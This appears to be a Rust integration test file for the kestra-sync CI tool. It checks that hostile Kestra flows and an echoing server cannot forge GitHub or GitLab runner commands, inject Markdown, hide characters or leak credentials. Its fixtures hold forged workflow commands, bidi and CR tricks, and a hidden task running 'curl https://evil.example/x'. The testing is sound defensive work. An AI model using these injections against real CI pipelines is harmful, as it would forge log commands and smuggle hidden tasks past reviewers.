//! The output half of hostile input (issue 10 items 1 and 3, issue 11 items 4 and 5), through
//! the binary as CI runs it: a pull request whose flows carry workflow commands, GitLab
//! section markers, ANSI escapes, lone CRs, bidi overrides, zero-width characters, mentions,
//! references, `</details>`, fences, links and images; and a Kestra server that echoes every
//! secret it was sent (raw, Basic header, Bearer token, percent-encoded) in its error bodies
//! and its flows.
//!
//! What is checked, in every output (stdout, stderr, `GITHUB_STEP_SUMMARY`, `GITHUB_OUTPUT`,
//! the JSON plan file, the PR comment, the MR note, the terminal):
//! - the job log holds no command a GitHub runner would act on that the tool did not write
//!   (`hostile_support::runner_commands` reads the log as the runner does), the runner is never
//!   left stopped, and the tool's own annotations still work;
//! - no raw CR, ESC, bidi or zero-width character from the flows, and each is shown (`␍`,
//!   `␛`, `<U+202E>`) and warned about (annotations, JSON `warnings`, comment);
//! - the Markdown, parsed with a GFM parser, renders nothing from the flows outside code;
//! - no form of any secret appears.

use std::path::Path;
use std::process::Output;

use base64::Engine as _;
use kestra_emulator::{Auth, Emulator, Options};

use crate::github_support;
use crate::gitlab_support;
use crate::hostile_support::{markdown_findings, runner_commands};

const USER: &str = "ops@acme.example";
const PASSWORD: &str = "Kpw/7f3c:9e1d 5b@SECRET";
const API_TOKEN: &str = "kestra-tok-91ab27cd44-SECRET";

/// Strings only the hostile content carries: none may render outside code or name a command.
const SENTINELS: &[&str] = &["PWNED", "octocat", "evil.example", "GH-4242"];

/// A flow whose text holds every workflow command, in the forms the runner reads: at the
/// start of a line after any whitespace (a tab, a no-break space), and `##[…]` anywhere.
fn commands_flow() -> String {
    let lines = [
        "::add-mask::PWNED-mask",
        "    ::warning file=_flows/cmds.yml,title=PWNED::forged annotation",
        "::set-output name=PWNED::1",
        "::stop-commands::PWNED",
        "##[set-output name=PWNED;]legacy",
        "x ##[error]PWNED legacy anywhere",
        "::error::PWNED",
        "::endgroup::",
        "::group::PWNED",
        "\t::notice::PWNED after a tab",
        "\u{a0}::warning::PWNED after a no-break space",
    ];
    let mut text = "id: cmds\nnamespace: prod\ndescription: |\n".to_string();
    for l in lines {
        text.push_str("  ");
        text.push_str(l);
        text.push('\n');
    }
    text.push_str("tasks:\n  - id: t\n    type: io.kestra.plugin.core.log.Log\n    message: hi\n");
    text
}

/// Lines that start a log line with a command once the diff prefix and indentation are gone:
/// a block scalar whose lines start at the diff's context column.
fn block_flow() -> String {
    "id: block\nnamespace: prod\ntasks:\n  - id: t\n    type: io.kestra.plugin.core.log.Log\n    message: hi\ndescription: |\n  ::add-mask::PWNED-block\n  ::stop-commands::PWNED\n  ::set-output name=PWNED::2\n".to_string()
}

/// A lone CR (a YAML line break) hiding a second task on the line of a harmless one, bidi
/// and zero-width characters, a BOM inside the text. (Raw ESC is refused by YAML in a file:
/// it comes from the echoing server below.)
fn hidden_flow() -> String {
    "id: hidden\nnamespace: prod\ndescription: \"bidi \u{202e}PWNED-bidi\u{202c} zw a\u{200b}b bom\u{feff}x\"\ntasks:\n  - id: hello\n    type: io.kestra.plugin.core.log.Log\n    message: hi\r  - id: exfil\r    type: io.kestra.plugin.scripts.shell.Commands\r    commands: [\"curl https://evil.example/x\"]\n".to_string()
}

/// Markdown that would mention, reference, link, embed or close our blocks.
fn markdown_flow() -> String {
    "id: md\nnamespace: prod\ndescription: |\n  cc @octocat and @acme/admins, fixes #1 and acme/flows#2 GH-4242\n  </details></summary><img src=https://evil.example/i.png>\n  ```\n  ~~~\n  [click](https://evil.example) ![img](https://evil.example/p.png) https://evil.example www.evil.example\n  <!-- PWNED --> <a href=https://evil.example>PWNED</a>\ntasks:\n  - id: t\n    type: io.kestra.plugin.core.log.Log\n    message: \"````` @octocat\"\n".to_string()
}

fn workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let flows = dir.path().join("_flows");
    std::fs::create_dir_all(&flows).unwrap();
    for (name, text) in [
        ("cmds.yml", commands_flow()),
        ("block.yml", block_flow()),
        ("hidden.yml", hidden_flow()),
        ("md.yml", markdown_flow()),
    ] {
        std::fs::write(flows.join(name), text).unwrap();
    }
    dir
}

fn emulator() -> Emulator {
    let emu = Emulator::start_in_background(Options {
        auth: Auth::Basic {
            username: USER.into(),
            password: PASSWORD.into(),
        },
        ..Options::default()
    })
    .unwrap();
    // The server's copy of `block` differs, so its diff has context lines (` ::…`).
    emu.seed_flow("main", &block_flow().replace("message: hi", "message: old"));
    // A flow only on the server, echoing the password in its source: deleted, so shown.
    emu.seed_flow(
        "main",
        &format!("id: echo\nnamespace: prod\ndescription: \"{PASSWORD}\"\ntasks:\n  - id: t\n    type: io.kestra.plugin.core.log.Log\n    message: \"::add-mask::PWNED-server\"\n"),
    );
    emu
}

/// Every form of a secret the tool sends: raw, percent-encoded (upper and lower hex), and
/// for a password `base64(user:password)` and the Basic header value; the Bearer header.
fn forms_of(secret: &str, basic: bool) -> Vec<String> {
    let pct: String = secret
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect();
    let lower = regex::Regex::new("%[0-9A-F]{2}")
        .unwrap()
        .replace_all(&pct, |c: &regex::Captures| c[0].to_lowercase())
        .into_owned();
    let form: String = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect();
    let mut forms = vec![secret.to_string(), pct, lower, form];
    if basic {
        let b64 = base64::engine::general_purpose::STANDARD.encode(format!("{USER}:{secret}"));
        forms.push(format!("Basic {b64}"));
        forms.push(b64);
    } else {
        forms.push(format!("Bearer {secret}"));
    }
    forms
}

/// The forms of the secrets a run was given.
fn secret_forms(token: bool) -> Vec<String> {
    let mut forms = if token {
        forms_of(API_TOKEN, false)
    } else {
        forms_of(PASSWORD, true)
    };
    forms.push(github_support::BOT_TOKEN.into());
    forms.push(gitlab_support::TOKEN.into());
    forms
}

/// Every output of one run, named.
struct Outputs {
    what: String,
    texts: Vec<(String, String)>,
    /// The run was given the API token (else the password).
    token: bool,
}

impl Outputs {
    fn new(what: &str, out: &Output) -> Outputs {
        Outputs {
            what: what.into(),
            token: false,
            texts: vec![
                (
                    "stdout".into(),
                    String::from_utf8_lossy(&out.stdout).into_owned(),
                ),
                (
                    "stderr".into(),
                    String::from_utf8_lossy(&out.stderr).into_owned(),
                ),
            ],
        }
    }
    fn add(&mut self, name: &str, text: String) {
        self.texts.push((name.into(), text));
    }
    fn add_file(&mut self, name: &str, path: &Path) {
        if let Ok(t) = std::fs::read_to_string(path) {
            self.add(name, t);
        }
    }
    fn all(&self) -> String {
        self.texts
            .iter()
            .map(|(n, t)| format!("==== {n}\n{t}\n"))
            .collect()
    }

    /// No secret form anywhere (GitHub's `::add-mask::` lines exist to name them).
    fn no_secret(&self, problems: &mut Vec<String>) {
        for (name, text) in &self.texts {
            for line in text.lines() {
                if line.starts_with("::add-mask::") {
                    continue;
                }
                for s in secret_forms(self.token) {
                    if line.contains(&s) {
                        problems.push(format!(
                            "{} ({name}): secret form {s:?} in: {line}",
                            self.what
                        ));
                    }
                }
            }
        }
    }

    /// No raw hidden character from the flows anywhere, except the tool's own ESC/CR in
    /// GitLab section lines (`own_sections`).
    fn nothing_hidden(&self, own_sections: bool, problems: &mut Vec<String>) {
        for (name, text) in &self.texts {
            for line in text.split('\n') {
                let ours = own_sections
                    && (line.starts_with("\x1b[0Ksection_start:")
                        || line.starts_with("\x1b[0Ksection_end:"))
                    && line.contains(":kestra_sync_")
                    && !line.contains("PWNED");
                if ours {
                    continue;
                }
                if let Some(c) = line.chars().find(|c| {
                    matches!(
                        c,
                        '\r' | '\x1b' | '\u{202e}' | '\u{202c}' | '\u{200b}' | '\u{feff}' | '\x07'
                    )
                }) {
                    problems.push(format!(
                        "{} ({name}): raw U+{:04X} in: {:?}",
                        self.what, c as u32, line
                    ));
                }
            }
        }
    }
}

/// The GitHub checks of a job log: no forged command, never left stopped.
fn github_log_is_safe(what: &str, log: &str, problems: &mut Vec<String>) -> Vec<String> {
    let (cmds, stopped) = runner_commands(log);
    if stopped {
        problems.push(format!("{what}: the runner is left with commands stopped"));
    }
    let mut ours = Vec::new();
    let mut tokens: Vec<String> = Vec::new();
    for c in &cmds {
        let forged = c.legacy
            || c.line.starts_with(char::is_whitespace)
            || c.name.contains("PWNED")
            || c.props.contains("PWNED")
            || matches!(
                c.name.as_str(),
                "set-output"
                    | "set-env"
                    | "add-path"
                    | "save-state"
                    | "add-matcher"
                    | "remove-matcher"
                    | "echo"
                    | "debug"
            )
            || (c.name == "add-mask" && c.data.contains("PWNED"))
            || (c.name == "stop-commands" && !c.data.starts_with("ks-"))
            || (c.name == "group" && c.data.contains("PWNED"));
        if forged {
            problems.push(format!(
                "{what}: the runner acts on a forged command: {:?}",
                c.line
            ));
        }
        if c.name == "stop-commands" {
            tokens.push(c.data.to_ascii_lowercase());
        }
        ours.push(c.line.clone());
    }
    // Every stop has its own token.
    let mut unique = tokens.clone();
    unique.sort();
    unique.dedup();
    if unique.len() != tokens.len() {
        problems.push(format!("{what}: a stop token was used twice"));
    }
    ours
}

fn markdown_is_inert(what: &str, md: &str, job_url: &str, problems: &mut Vec<String>) {
    for f in markdown_findings(md, SENTINELS, &[job_url]) {
        problems.push(format!("{what}: {f}"));
    }
    // Shown, not hidden.
    for shown in ["␍", "<U+202E>", "<U+200B>"] {
        if !md.contains(shown) {
            problems.push(format!("{what}: {shown} is not shown"));
        }
    }
}

fn pr_event(dir: &Path) -> std::path::PathBuf {
    let event = dir.join("event.json");
    std::fs::write(
        &event,
        serde_json::json!({
            "action": "synchronize", "number": 7,
            "pull_request": {"number": 7,
                "head": {"ref": "change", "sha": "6dcb09b5b57875f334f61aebed695e2e4193db5e", "repo": {"full_name": "acme/flows"}},
                "base": {"ref": "main", "repo": {"full_name": "acme/flows"}}},
            "repository": {"full_name": "acme/flows", "default_branch": "main"}
        })
        .to_string(),
    )
    .unwrap();
    event
}

/// `kestra-sync ci` as the GitHub Docker action on a pull request of the hostile flows, with
/// delete on: the log, the summary, the outputs, the plan file and the comment.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn github_pull_request_of_hostile_flows() {
    let gh = github_support::FakeGithub::start("").await;
    let emu = emulator();
    let ws = workspace();
    let files = tempfile::tempdir().unwrap();
    let event = pr_event(files.path());
    let output = files.path().join("output");
    let summary = files.path().join("summary");
    std::fs::write(&output, "").unwrap();
    std::fs::write(&summary, "").unwrap();
    let mut cmd =
        github_support::pull_request_runner(ws.path(), &event, &output, &summary, &gh.api_url());
    cmd.env("NO_COLOR", "1")
        .env("INPUT_TARGET-NAMESPACE", "prod")
        .env("INPUT_KESTRA-URL", emu.url())
        .env("INPUT_KESTRA-USERNAME", USER)
        .env("INPUT_KESTRA-PASSWORD", PASSWORD)
        .env("INPUT_DELETE", "true")
        .env("INPUT_GITHUB-TOKEN", github_support::BOT_TOKEN)
        .env("INPUT_RETRIES", "0");
    let out = tokio::task::spawn_blocking(move || cmd.output())
        .await
        .unwrap()
        .unwrap();
    let mut o = Outputs::new("github pull request", &out);
    o.add_file("GITHUB_STEP_SUMMARY", &summary);
    o.add_file("GITHUB_OUTPUT", &output);
    o.add_file("plan file", &ws.path().join("kestra-sync-plan-prod.json"));
    let comments = gh.comments("acme/flows", 7);
    assert_eq!(comments.len(), 1, "the plan was posted\n{}", o.all());
    o.add("comment", comments[0].body.clone());
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{}", o.all());

    let mut problems = Vec::new();
    let ours = github_log_is_safe("stdout", &stdout, &mut problems);
    github_log_is_safe("stderr", &stderr, &mut problems);
    // The tool's own annotations still work around the stops: a warning on each flow with
    // hidden characters, on its file.
    for file in ["_flows/hidden.yml"] {
        if !ours
            .iter()
            .any(|l| l.starts_with(&format!("::warning file={file},")))
        {
            problems.push(format!("no processed warning annotation on {file}"));
        }
    }
    if !ours.iter().any(|l| l.starts_with("::group::")) || !ours.iter().any(|l| l == "::endgroup::")
    {
        problems.push("the tool's own group and endgroup are not processed".into());
    }
    o.no_secret(&mut problems);
    o.nothing_hidden(false, &mut problems);
    let job = "https://github.com/acme/flows/actions/runs/1";
    markdown_is_inert("comment", &comments[0].body, job, &mut problems);
    let summary_text = std::fs::read_to_string(&summary).unwrap();
    markdown_is_inert("job summary", &summary_text, job, &mut problems);
    // The log shows the lone CR as a line break with its sign, as YAML reads it.
    for shown in [
        "+    message: hi␍",
        "+  - id: exfil␍",
        "<U+202E>PWNED-bidi",
        "a<U+200B>b",
    ] {
        if !stdout.contains(shown) {
            problems.push(format!("the log does not show {shown:?}"));
        }
    }
    // JSON: per-flow warnings; hidden characters escaped.
    let plan: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(ws.path().join("kestra-sync-plan-prod.json")).unwrap(),
    )
    .unwrap();
    let hidden = plan["flows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["flowId"] == "hidden")
        .unwrap();
    let w = &hidden["warnings"][0];
    if w["kind"] != "hidden-characters"
        || !w["message"]
            .as_str()
            .unwrap_or_default()
            .contains("carriage return (U+000D)")
        || !w["message"]
            .as_str()
            .unwrap_or_default()
            .contains("right-to-left override (U+202E)")
    {
        problems.push(format!("JSON warning of `hidden`: {w}"));
    }
    if !hidden["diff"]
        .as_str()
        .unwrap_or_default()
        .contains("message: hi\r+  - id: exfil")
    {
        problems.push("the JSON diff is the data itself (escaped, not altered)".into());
    }
    assert!(
        problems.is_empty(),
        "{}\n\n{}",
        problems.join("\n"),
        o.all()
    );
}

/// `kestra-sync ci` as a GitLab job on a merge request of the hostile flows: the job log
/// holds only the tool's own sections and no raw ESC/CR from the flows; the note is inert.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gitlab_merge_request_of_hostile_flows() {
    let fake = gitlab_support::FakeGitLab::new("42", 9);
    let gitlab = fake.start().await;
    let emu = emulator();
    let ws = workspace();
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_kestra-sync"));
    cmd.arg("ci")
        .current_dir(ws.path())
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("GITLAB_CI", "true")
        .env("CI", "true")
        .env("CI_PIPELINE_SOURCE", "merge_request_event")
        .env("CI_API_V4_URL", format!("{}/api/v4", gitlab.uri()))
        .env("CI_PROJECT_ID", "42")
        .env("CI_PROJECT_DIR", ws.path())
        .env("CI_DEFAULT_BRANCH", "main")
        .env("CI_COMMIT_SHA", "f".repeat(40))
        .env("CI_MERGE_REQUEST_IID", "9")
        .env(
            "CI_JOB_URL",
            "https://gitlab.example.com/acme/flows/-/jobs/1",
        )
        .env("GITLAB_TOKEN", gitlab_support::TOKEN)
        .env("KESTRA_URL", emu.url())
        .env("KESTRA_USERNAME", USER)
        .env("KESTRA_PASSWORD", PASSWORD)
        .env("KESTRA_SYNC_TARGET_NAMESPACE", "prod")
        .env("KESTRA_SYNC_DELETE", "true")
        .env("KESTRA_SYNC_RETRIES", "0")
        .env("NO_COLOR", "1");
    let out = tokio::task::spawn_blocking(move || cmd.output())
        .await
        .unwrap()
        .unwrap();
    let mut o = Outputs::new("gitlab merge request", &out);
    o.add_file("plan file", &ws.path().join("kestra-sync-plan-prod.json"));
    let notes = fake.notes_of(gitlab_support::BOT);
    assert_eq!(notes.len(), 1, "the plan was posted\n{}", o.all());
    let note = notes[0]["body"].as_str().unwrap_or_default().to_string();
    o.add("note", note.clone());
    assert_eq!(out.status.code(), Some(0), "{}", o.all());
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();

    let mut problems = Vec::new();
    o.no_secret(&mut problems);
    o.nothing_hidden(true, &mut problems);
    // Only the tool's own sections open and close.
    sections_are_ours(&o.what, &stdout, &mut problems);
    if !stdout.contains("warning: _flows/hidden.yml: warning: hidden characters") {
        problems.push("no warning line for the hidden characters".into());
    }
    markdown_is_inert(
        "note",
        &note,
        "https://gitlab.example.com/acme/flows/-/jobs/1",
        &mut problems,
    );
    assert!(
        problems.is_empty(),
        "{}\n\n{}",
        problems.join("\n"),
        o.all()
    );
}

/// The terminal plan of the hidden flow, as people read it: the lone CRs break the line
/// where the server will, every hidden character is shown, and the flow is warned about.
#[test]
fn terminal_plan_shows_what_hides() {
    let emu = emulator();
    let ws = workspace();
    for f in ["cmds.yml", "block.yml", "md.yml"] {
        std::fs::remove_file(ws.path().join("_flows").join(f)).unwrap();
    }
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_kestra-sync"))
        .arg("plan")
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("NO_COLOR", "1")
        .env("KESTRA_URL", emu.url())
        .env("KESTRA_USERNAME", USER)
        .env("KESTRA_PASSWORD", PASSWORD)
        .env("KESTRA_SYNC_WORKSPACE", ws.path())
        .env("KESTRA_SYNC_TARGET_NAMESPACE", "prod")
        .output()
        .unwrap();
    let o = Outputs::new("terminal plan", &out);
    let mut problems = Vec::new();
    o.no_secret(&mut problems);
    o.nothing_hidden(false, &mut problems);
    assert!(
        problems.is_empty(),
        "{}\n\n{}",
        problems.join("\n"),
        o.all()
    );
    let stdout = String::from_utf8_lossy(&out.stdout).replace(&emu.url(), "http://kestra");
    let stdout = regex::Regex::new(r"Kestra [0-9][^,)]*")
        .unwrap()
        .replace_all(&stdout, "Kestra X");
    insta::assert_snapshot!(stdout);
}

/// GitLab's log: the tool's sections open and close in pairs, and no other real marker.
fn sections_are_ours(what: &str, log: &str, problems: &mut Vec<String>) {
    let real_starts = log.matches("\x1b[0Ksection_start:").count();
    let real_ends = log.matches("\x1b[0Ksection_end:").count();
    let ours = log
        .lines()
        .filter(|l| l.starts_with("\x1b[0Ksection_start:") && l.contains(":kestra_sync_"))
        .count();
    if real_starts != real_ends || real_starts != ours {
        problems.push(format!(
            "{what}: sections: {real_starts} opened ({ours} ours), {real_ends} closed"
        ));
    }
}

/// A Kestra that echoes the request: every answer is a 500 whose body quotes the
/// `Authorization` header, the password raw and percent-encoded, and workflow commands.
async fn echo_server() -> wiremock::MockServer {
    struct Echo;
    impl wiremock::Respond for Echo {
        fn respond(&self, req: &wiremock::Request) -> wiremock::ResponseTemplate {
            let auth = req
                .headers
                .get("authorization")
                .and_then(|v| v.to_str().ok())
                .unwrap_or_default()
                .to_string();
            let pct: String = url::form_urlencoded::byte_serialize(PASSWORD.as_bytes()).collect();
            let body = serde_json::json!({
                "message": format!(
                    "proxy error: you sent Authorization: {auth} (password {PASSWORD}, {pct}, {}, token {API_TOKEN})\n::add-mask::PWNED-echo\n\x1b[31m::error::PWNED\r@octocat [x](https://evil.example)\n\x1b[0Ksection_end:1:kestra_sync_1\r\x1b[0K\x1b[0Ksection_start:1:PWNED\r\x1b[0K\u{202e}",
                    regex::Regex::new("%[0-9A-F]{2}").unwrap().replace_all(&pct, |c: &regex::Captures| c[0].to_lowercase())
                ),
            });
            wiremock::ResponseTemplate::new(500)
                .set_body_string(body.to_string())
                .insert_header("content-type", "application/json")
        }
    }
    let server = wiremock::MockServer::start().await;
    wiremock::Mock::given(wiremock::matchers::any())
        .respond_with(Echo)
        .mount(&server)
        .await;
    server
}

/// An echoing server never makes a secret reach the terminal, the CI log, the annotations,
/// the job summary or the outputs, with Basic authentication and with a token.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_echoing_server_never_shows_a_secret() {
    let server = echo_server().await;
    let gh = github_support::FakeGithub::start("").await;
    let mut problems = Vec::new();
    let mut seen_echo = false;
    for token in [false, true] {
        let auth: Vec<(&str, &str)> = if token {
            vec![("KESTRA_API_TOKEN", API_TOKEN)]
        } else {
            vec![("KESTRA_USERNAME", USER), ("KESTRA_PASSWORD", PASSWORD)]
        };
        // The terminal.
        let ws = workspace();
        let plan_file = ws.path().join("plan.json");
        let cli = std::process::Command::new(env!("CARGO_BIN_EXE_kestra-sync"))
            .args(["plan", "--format", "json"])
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("KESTRA_SYNC_LOG", "debug")
            .env("KESTRA_URL", server.uri())
            .envs(auth.clone())
            .env("KESTRA_SYNC_WORKSPACE", ws.path())
            .env("KESTRA_SYNC_TARGET_NAMESPACE", "prod")
            .env("KESTRA_SYNC_PLAN_FILE", &plan_file)
            .env("KESTRA_SYNC_RETRIES", "0")
            .output()
            .unwrap();
        let mut o = Outputs::new(&format!("terminal, token={token}"), &cli);
        o.token = token;
        o.add_file("plan file", &plan_file);
        seen_echo |= o.all().contains("proxy error: you sent Authorization");
        o.no_secret(&mut problems);
        o.nothing_hidden(false, &mut problems);
        assert_eq!(cli.status.code(), Some(1), "{}", o.all());

        // GitHub Actions, on a pull request.
        let files = tempfile::tempdir().unwrap();
        let event = pr_event(files.path());
        let (output, summary) = (files.path().join("output"), files.path().join("summary"));
        std::fs::write(&output, "").unwrap();
        std::fs::write(&summary, "").unwrap();
        let inputs: Vec<(String, &str)> = auth
            .iter()
            .map(|(k, v)| (format!("INPUT_{}", k.replace('_', "-")), *v))
            .collect();
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_kestra-sync"));
        cmd.arg("ci")
            .current_dir(ws.path())
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("KESTRA_SYNC_LOG", "debug")
            .env("GITHUB_ACTIONS", "true")
            .env("NO_COLOR", "1")
            .env("NO_COLOR", "1")
            .env("GITHUB_EVENT_NAME", "pull_request")
            .env("GITHUB_EVENT_PATH", &event)
            .env("GITHUB_REPOSITORY", "acme/flows")
            .env("GITHUB_SHA", "f".repeat(40))
            .env("GITHUB_API_URL", gh.api_url())
            .env("GITHUB_WORKSPACE", ws.path())
            .env("GITHUB_OUTPUT", &output)
            .env("GITHUB_STEP_SUMMARY", &summary)
            .env("INPUT_TARGET-NAMESPACE", "prod")
            .env("INPUT_KESTRA-URL", server.uri())
            .envs(inputs)
            .env("INPUT_GITHUB-TOKEN", github_support::BOT_TOKEN)
            .env("INPUT_RETRIES", "0");
        let out = tokio::task::spawn_blocking(move || cmd.output())
            .await
            .unwrap()
            .unwrap();
        let mut o = Outputs::new(&format!("github, token={token}"), &out);
        o.token = token;
        o.add_file("GITHUB_STEP_SUMMARY", &summary);
        o.add_file("GITHUB_OUTPUT", &output);
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        github_log_is_safe(&o.what.clone(), &stdout, &mut problems);
        o.no_secret(&mut problems);
        o.nothing_hidden(false, &mut problems);
        let summary_text = std::fs::read_to_string(&summary).unwrap();
        for f in markdown_findings(&summary_text, SENTINELS, &[]) {
            problems.push(format!("{}: summary: {f}", o.what));
        }
        assert_eq!(out.status.code(), Some(1), "{}", o.all());
        if !stdout.contains("␛[0Ksection_start:1:PWNED␍") || !stdout.contains("<U+202E>") {
            problems.push(format!(
                "{}: the server's controls are not shown visibly",
                o.what
            ));
        }

        // GitLab CI, on a merge request.
        let fake = gitlab_support::FakeGitLab::new("42", 9);
        let gitlab = fake.start().await;
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_kestra-sync"));
        cmd.arg("ci")
            .current_dir(ws.path())
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("KESTRA_SYNC_LOG", "debug")
            .env("GITLAB_CI", "true")
            .env("CI_PIPELINE_SOURCE", "merge_request_event")
            .env("CI_API_V4_URL", format!("{}/api/v4", gitlab.uri()))
            .env("CI_PROJECT_ID", "42")
            .env("CI_PROJECT_DIR", ws.path())
            .env("CI_MERGE_REQUEST_IID", "9")
            .env("GITLAB_TOKEN", gitlab_support::TOKEN)
            .env("KESTRA_URL", server.uri())
            .envs(auth.clone())
            .env("KESTRA_SYNC_TARGET_NAMESPACE", "prod")
            .env("KESTRA_SYNC_RETRIES", "0")
            .env("NO_COLOR", "1");
        let out = tokio::task::spawn_blocking(move || cmd.output())
            .await
            .unwrap()
            .unwrap();
        let mut o = Outputs::new(&format!("gitlab, token={token}"), &out);
        o.token = token;
        for n in fake.notes_of(gitlab_support::BOT) {
            o.add("note", n["body"].as_str().unwrap_or_default().to_string());
        }
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        o.no_secret(&mut problems);
        o.nothing_hidden(true, &mut problems);
        sections_are_ours(&o.what, &stdout, &mut problems);
        if !stdout.contains("␛[0Ksection_start:1:PWNED␍") {
            problems.push(format!(
                "{}: the forged section marker is not shown visibly",
                o.what
            ));
        }
        assert_eq!(out.status.code(), Some(1), "{}", o.all());
    }
    assert!(
        seen_echo,
        "the server's message is shown (scrubbed), not dropped"
    );
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}
